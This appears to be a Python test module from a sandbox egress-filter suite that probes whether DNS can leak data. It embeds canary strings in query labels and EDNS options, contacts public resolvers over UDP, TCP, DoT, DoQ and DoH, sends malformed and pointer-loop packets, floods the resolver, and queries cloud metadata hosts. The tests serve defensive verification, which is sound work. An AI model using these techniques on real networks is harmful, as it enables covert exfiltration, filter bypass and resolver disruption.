"""Data hidden in names, and messages that a parser would choke on. Nothing of them may leave the machine."""

from attack import *

servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
resolver = next((server for server in servers if (":" in server) == six), servers[0])
public = place["publicResolvers"][0]
types = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "WKS": 11, "PTR": 12, "HINFO": 13, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35, "KX": 36, "CERT": 37, "DNAME": 39, "DS": 43, "SSHFP": 44,
         "RRSIG": 46, "DNSKEY": 48, "TLSA": 52, "OPENPGPKEY": 61, "SVCB": 64, "HTTPS": 65, "SPF": 99, "TKEY": 249, "TSIG": 250, "IXFR": 251, "AXFR": 252, "ANY": 255, "URI": 256, "CAA": 257, "private use": 65280, "TYPE65535": 65535}


def name_bytes(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".") if label) + b"\0"


def message(name, kind=1, flags=0x0100, questions=1, extra=b"", additional=0, klass=1):
    return struct.pack("!HHHHHH", 0x4242, flags, questions, 0, 0, additional) + name_bytes(name) + struct.pack("!HH", kind, klass) + extra


def ask_udp(data, server=None, port=53, seconds=2.0):
    sender = socket.socket(socket.AF_INET6 if ":" in (server or resolver) else socket.AF_INET, socket.SOCK_DGRAM)
    sender.settimeout(seconds)
    sender.sendto(data, (server or resolver, port))
    try:
        return sender.recv(65535)
    except (TimeoutError, socket.timeout):
        return None


def ask_tcp(data, server=None, port=53, framed=True, seconds=2.0):
    connection = socket.create_connection((server or resolver, port), seconds)
    connection.sendall((struct.pack("!H", len(data)) if framed else b"") + data)
    return no_banner(read_all(connection, seconds))[2:]


def verdict(answer):
    if not answer or len(answer) < 12:
        return f"answer {answer!r}"
    flags, _, answers = struct.unpack("!HHH", answer[2:8])
    return f"code {flags & 15}, {answers} answers, {len(answer)} bytes"


def code(answer):
    check(answer is not None and len(answer) >= 4, f"no answer: {answer!r}")
    return answer[3] & 15


@each("data in the labels of a query of type", types, control=True)
def data_in_labels(canary, kind):
    for ask in (ask_udp, ask_tcp):
        answer = ask(message(f"{canary}.exfil.{zone}", types[kind]))
        if kind == "A" or kind == "AAAA":
            continue
        check(answer, "the resolver is silent, and a client would wait")
        escaped_if(banner in answer or canary.encode() in answer[12 + len(name_bytes(f"{canary}.exfil.{zone}")) + 4:], "the name came back in an answer")
        if kind in ("TXT", "HTTPS", "SVCB", "NULL", "MX", "SRV", "CAA"):
            check(code(answer) == 0 and struct.unpack("!H", answer[6:8])[0] == 0, f"not empty: {verdict(answer)}")
    return verdict(answer)


@each("data in the labels of a query class", [0, 2, 3, 4, 254, 255, 65535])
def classes(canary, klass):
    return verdict(ask_udp(message(f"{canary}.exfil.{zone}", 1, klass=klass)))


@each("straight to a public resolver over UDP", place["publicResolvers"], control=True)
def direct(canary, server):
    answer = ask_udp(message(f"{canary}.{zone}", 28 if six else 1), server)
    escaped_if(answer is not None and socket.inet_pton(INET, place["elsewhere"]) in answer, "the outside's answer came back")
    return verdict(answer)


@each("straight to a public resolver over TCP", place["publicResolvers"], control=True)
def direct_tcp(canary, server):
    return verdict(ask_tcp(message(f"{canary}.{zone}", 28 if six else 1), server))


@each("DNS over TLS, straight to a resolver", [853, 8853])
def dot(canary, port):
    connection = dial_tls(public, port, sni=f"{canary}.dns.test")
    data = message(f"{canary}.{zone}")
    connection.sendall(struct.pack("!H", len(data)) + data)
    return no_banner(read_all(connection))


@attack("DNS over QUIC, straight to a resolver")
def doq(canary):
    return text_of(ask_udp, bytes([0xC3, 0, 0, 0, 1, 8]) + canary.encode() + bytes(1180), public, 853, 0.7)


@attack("DNS over HTTPS at a host that no rule names")
def doh(canary):
    connection = dial_tls("dns.google", 443)
    connection.sendall(f"GET /dns-query?dns={canary} HTTP/1.1\r\nHost: dns.google\r\n\r\n".encode())
    return refused(read_all(connection), "domain_not_allowed")


@attack("DNS over HTTPS at a literal address")
def doh_literal(canary):
    connection = dial_tls(public, 443, sni="dns.google")
    connection.sendall(f"GET /dns-query?dns={canary} HTTP/1.1\r\nHost: dns.google\r\n\r\n".encode())
    return refused(read_all(connection), "domain_not_allowed", "name_mismatch")


@attack("a name that no rule allows is answered, and its connection refused with the reason", reason="domain_not_allowed")
def denied_name(canary):
    connection = dial(f"{canary}.{zone}", 80)
    connection.sendall(f"GET / HTTP/1.1\r\nHost: {canary}.{zone}\r\n\r\n".encode())
    return refused(read_all(connection), "domain_not_allowed")


@attack("the search list and ndots of resolv.conf")
def search_list(canary):
    os.environ["LOCALDOMAIN"] = f"{canary}.{zone}"
    try:
        return socket.getaddrinfo("printer", 80)[0][4]
    except socket.gaierror as error:
        return error


@attack("mDNS and LLMNR")
def multicast_names(canary):
    said = []
    for server, port in (("224.0.0.251", 5353), ("ff02::fb", 5353), ("224.0.0.252", 5355), ("ff02::1:3", 5355)):
        said.append(text_of(ask_udp, message(f"{canary}.local"), server, port, 0.5))
    return said


malformed = {
    "nothing": b"", "one byte": b"\x12", "half a header": b"\x12\x34\x01\x00\x00", "a header without its question": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0),
    "a pointer to itself": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1", "pointers in a circle": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\xc0\x0e\xc0\x0c\0\1\0\1",
    "a pointer past the end": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\xff\xff\0\1\0\1", "a label of 64 bytes": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x40" + b"a" * 64 + b"\0\0\1\0\1",
    "a label of 191 bytes": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\xbf" + b"a" * 191 + b"\0\0\1\0\1", "a name of 300 bytes": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + (b"\x3b" + b"b" * 59) * 5 + b"\0\0\1\0\1",
    "a label that runs past the end": struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x3fabc", "trailing bytes": None, "sixty-five thousand questions": struct.pack("!HHHHHH", 1, 0x100, 65535, 0, 0, 0) + b"\1a\0\0\1\0\1",
    "a response": None, "no question": struct.pack("!HHHHHH", 1, 0x100, 0, 0, 0, 0), "answers in a query": None, "a truncated flag": None, "an EDNS record cut short": None, "two EDNS records": None, "EDNS version 9": None,
}


@each("a malformed message:", malformed)
def malformed_message(canary, what):
    name = f"{canary}.exfil.{zone}"
    opt = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)
    data = {
        "trailing bytes": message(name) + canary.encode(), "a response": message(name, flags=0x8180), "answers in a query": message(name)[:6] + b"\0\1" + message(name)[8:] + name_bytes(name) + b"\0\1\0\1\0\0\0\0\0\4\1\2\3\4",
        "a truncated flag": message(name, flags=0x0300), "an EDNS record cut short": message(name, extra=opt[:5], additional=1), "two EDNS records": message(name, extra=opt + opt, additional=2),
        "EDNS version 9": message(name, extra=b"\0" + struct.pack("!HHIH", 41, 4096, 0x00090000, 0), additional=1),
    }.get(what) or malformed[what]
    first = ask_udp(data, seconds=0.4)
    text_of(ask_tcp, data)
    answer = ask_udp(message(f"allowed.{zone}"))
    check(answer is not None and code(answer) == 0, f"the resolver does not answer any more: {verdict(answer)}")
    return verdict(first)


@each("opcode", ["IQUERY", "STATUS", "NOTIFY", "UPDATE", "DSO"])
def opcodes(canary, name):
    opcode = {"IQUERY": 1, "STATUS": 2, "NOTIFY": 4, "UPDATE": 5, "DSO": 6}[name]
    answer = ask_udp(message(f"{canary}.exfil.{zone}", 6, flags=opcode << 11), seconds=0.7)
    check(answer is None or code(answer) != 0, f"accepted: {verdict(answer)}")
    return verdict(answer)


@attack("several questions in one message")
def many_questions(canary):
    data = struct.pack("!HHHHHH", 1, 0x100, 3, 0, 0, 0) + b"".join(name_bytes(f"{canary}{n}.exfil.{zone}") + b"\0\1\0\1" for n in range(3))
    answer = ask_udp(data)
    check(answer is None or code(answer) == 1, f"accepted: {verdict(answer)}")
    return verdict(answer)


@attack("data in EDNS options: cookie, client subnet, private")
def edns(canary):
    options = b"".join(struct.pack("!HH", number, len(canary)) + canary.encode() for number in (3, 8, 10, 12, 65001))
    data = message(f"allowed.{zone}", 28 if six else 1, extra=b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(options)) + options, additional=1)
    return verdict(ask_udp(data))


@attack("an oversize message over TCP")
def oversize(canary):
    return verdict(ask_tcp(message(f"{canary}.exfil.{zone}") + (canary.encode() + b" ") * 4000))


@attack("a TCP length that promises more than comes", seconds=20)
def short_tcp(canary):
    connection = socket.create_connection((resolver, 53), 2)
    connection.sendall(struct.pack("!H", 65535) + message(f"{canary}.{zone}"))
    answer = ask_udp(message(f"allowed.{zone}"))
    check(answer is not None, "the resolver waits for one client and forgets the others")
    return read_all(connection, 1.0)


@attack("bytes that are no DNS at all to port 53 over TCP", control=True)
def not_dns(canary):
    connection = socket.create_connection((place["elsewhere"], 53), 2)
    connection.sendall(f"SSH-2.0-{canary}\r\n".encode())
    return no_banner(read_all(connection, 2.0))


@attack("a thousand queries in one TCP stream", seconds=20)
def pipelined(canary):
    connection = socket.create_connection((resolver, 53), 5)
    one = message(f"{canary}.exfil.{zone}")
    connection.sendall((struct.pack("!H", len(one)) + one) * 1000)
    return len(no_banner(read_all(connection, 2.0)))


@each("a question of the host's own names and addresses", ["localhost", "host.docker.internal", "metadata.google.internal", "instance-data.ec2.internal", "kubernetes.default.svc.cluster.local", "gateway.docker.internal"])
def host_names(canary, name):
    for address in {entry[4][0] for entry in socket.getaddrinfo(name, 80, INET)}:
        try:
            connection = socket.create_connection((address, 80), 2)
        except OSError:
            continue
        connection.sendall(f"GET /{canary} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        no_banner(read_all(connection))
    return "silence"


@each("a reverse question", ["10.1.2.3", "8.8.8.8", "169.254.169.254", "198.18.0.1", "127.0.0.1"])
def reverse(canary, address):
    name = ".".join(reversed(address.split("."))) + ".in-addr.arpa"
    answer = ask_udp(message(name, 12))
    return verdict(answer)


@attack("five thousand names: the synthetic addresses keep their owners", seconds=30)
def exhaustion(canary):
    kind = 28 if six else 1
    before = ask_udp(message(f"allowed.{zone}", kind))
    sender = socket.socket(INET, socket.SOCK_DGRAM)
    sender.connect((resolver, 53))
    sender.settimeout(2)
    for number in range(5000):
        sender.send(message(f"n{number}.{canary}.{zone}", kind))
        sender.recv(4096)
    after = ask_udp(message(f"allowed.{zone}", kind))
    size = 16 if six else 4
    check(code(after) == 0, verdict(after))
    for answer in (before, after):
        connection = socket.create_connection((socket.inet_ntop(INET, answer[-size:]), 80), 3)
        connection.sendall(f"GET /{canary.upper()[:4]} HTTP/1.1\r\nHost: elsewhere.{zone}\r\n\r\n".encode())
        data = read_all(connection)
        escaped_if(banner in data, "an address led to another name's upstream")
    return "kept"


if __name__ == "__main__":
    main()
